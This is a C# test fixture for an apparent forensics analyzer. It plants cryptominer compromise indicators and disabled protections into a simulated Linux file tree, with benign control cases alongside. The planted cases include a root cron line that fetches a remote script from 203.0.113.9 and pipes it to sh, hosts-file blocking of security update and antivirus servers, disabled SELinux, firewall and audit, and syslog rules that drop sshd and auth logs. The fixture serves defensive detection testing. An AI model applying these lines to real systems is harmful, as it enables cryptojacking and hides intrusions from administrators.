using System.Globalization;
using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Names that the host resolves by itself, and protections that are off.</summary>
internal static class NamePlants
{
    private const string Miner = "*/2 * * * * (curl -fsSL http://203.0.113.9/b.sh||wget -qO- http://203.0.113.9/b.sh)|sh\n";
    private static readonly string[] s_hosts = ["/etc/hosts"];

    public static IReadOnlyList<Plant> All { get; } =
    [
        new("L-HOSTS", "pool-led-to-a-proxy", Loud, tree => tree.Append("/etc/hosts", "198.51.100.9 pool.supportxmr.com\n")) { AtLeast = Severity.Critical },
        new("L-HOSTS", "pool-in-capitals", Quiet, tree => tree.Append("/etc/hosts", "198.51.100.9\tinternal GULF.MONEROOCEAN.STREAM.\n")) { AtLeast = Severity.Critical },
        new("L-HOSTS", "security-updates-blocked", Quiet, tree => tree.Append("/etc/hosts", "127.0.0.1 security.debian.org\n")) { Entries = s_hosts },
        new("L-HOSTS", "cloud-protection-blocked", Quiet, tree => tree.Append("/etc/hosts", "0.0.0.0 update.aegis.aliyun.com jsrv.aegis.aliyun.com\n")) { Entries = s_hosts },
        new("L-HOSTS", "virus-database-blocked", Quiet, tree => tree.Append("/etc/hosts", "::1 database.clamav.net\n")) { Entries = s_hosts },
        new("L-HOSTS", "rivals-blocked", Loud, tree => tree.Append("/etc/hosts", "0.0.0.0 xmr.nanopool.org\n0.0.0.0 pool.minexmr.com\n")) { AtLeast = Severity.Medium },
        new("L-HOSTS", "list-against-advertising", Benign, tree => tree.Append("/etc/hosts", string.Concat(Enumerable.Range(0, 2000).Select(i => string.Create(CultureInfo.InvariantCulture, $"0.0.0.0 ads{i}.example\n"))) + "0.0.0.0 coinhive.com\n0.0.0.0 xmr.nanopool.org\n")),
        new("L-HOSTS", "own-names", Benign, tree => tree.Append("/etc/hosts", "10.0.0.5 db01 db01.internal\n10.0.0.9 mirrors.aliyun.com\n::1 ip6-localhost\n# 198.51.100.9 pool.supportxmr.com\n")),
        new("L-HOSTS", "docker", Benign, tree => tree.Append("/etc/hosts", "172.17.0.2 3f2a9c1b7d5e\nfe00::0 ip6-localnet\n")),

        new("L-SECOFF", "selinux-off-beside-a-miner", Quiet, tree => tree.Crontab("root", Miner).File("/etc/selinux/config", "SELINUX=disabled\nSELINUXTYPE=targeted\n")) { Host = PlantHost.RedHat, AtLeast = Severity.Medium },
        new("L-SECOFF", "firewall-off-beside-a-miner", Quiet, tree => tree.Crontab("root", Miner).File("/etc/ufw/ufw.conf", "ENABLED=no\nLOGLEVEL=low\n")) { AtLeast = Severity.Medium, Entries = ["/etc/ufw/ufw.conf"] },
        new("L-SECOFF", "saved-rules-accept-all-beside-a-miner", Quiet, tree => tree.Crontab("root", Miner).File("/etc/iptables/rules.v4", "*filter\n:INPUT ACCEPT [0:0]\n:FORWARD ACCEPT [0:0]\n:OUTPUT ACCEPT [0:0]\nCOMMIT\n")) { AtLeast = Severity.Medium, Entries = ["/etc/iptables/rules.v4"] },
        new("L-SECOFF", "audit-off-beside-a-miner", Quiet, tree => tree.Crontab("root", Miner).File("/etc/audit/rules.d/50-x.rules", "-D\n-e 0\n")) { AtLeast = Severity.Medium, Entries = ["/etc/audit/rules.d/50-x.rules"] },
        new("L-SECOFF", "logins-not-logged", Quiet, tree => tree.File("/etc/rsyslog.d/00-local.conf", "auth,authpriv.* ~\n")) { AtLeast = Severity.Medium, Entries = ["/etc/rsyslog.d/00-local.conf"] },
        new("L-SECOFF", "sshd-not-logged", Quiet, tree => tree.File("/etc/rsyslog.d/00-local.conf", ":programname, isequal, \"sshd\" stop\n")) { AtLeast = Severity.Medium, Entries = ["/etc/rsyslog.d/00-local.conf"] },
        new("L-SECOFF", "image-without-selinux", Benign, tree => tree.File("/etc/selinux/config", "SELINUX=disabled\n").File("/etc/ufw/ufw.conf", "ENABLED=no\n")) { Host = PlantHost.RedHat },
        new("L-SECOFF", "noise-of-cron-dropped", Benign, tree => tree.File("/etc/rsyslog.d/10-noise.conf", ":msg, contains, \"pam_unix(cron:session)\" stop\n*.*;auth,authpriv.none -/var/log/syslog\nif $programname == 'haproxy' then /var/log/haproxy.log\n& stop\n")),
    ];
}
